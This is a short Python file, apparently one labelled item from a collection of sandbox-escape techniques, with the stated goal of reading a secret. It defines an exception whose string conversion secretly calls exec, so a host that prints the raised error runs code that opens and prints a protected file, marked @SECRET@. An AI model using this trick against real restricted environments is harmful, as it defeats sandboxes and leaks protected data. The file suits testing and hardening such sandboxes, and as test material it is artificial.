# technique: the same with exec and fresh globals
# goal: read-secret
# source: own analysis: the default builtins of exec
import functools
g = {}


class Bomb(Exception):
    __str__ = staticmethod(functools.partial(
        exec, 'print(open("@SECRET@").read(), flush=True)', g))


raise Bomb
